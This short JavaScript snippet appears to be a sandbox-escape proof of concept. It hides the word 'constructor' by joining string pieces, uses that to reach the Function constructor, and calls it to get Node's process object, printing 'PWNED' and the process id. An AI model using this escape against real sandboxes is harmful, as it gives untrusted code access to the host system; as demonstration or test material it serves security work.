const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
function f() { return this.go(fn); }
console.log('PWNED', f.call(t)('return process')().pid);
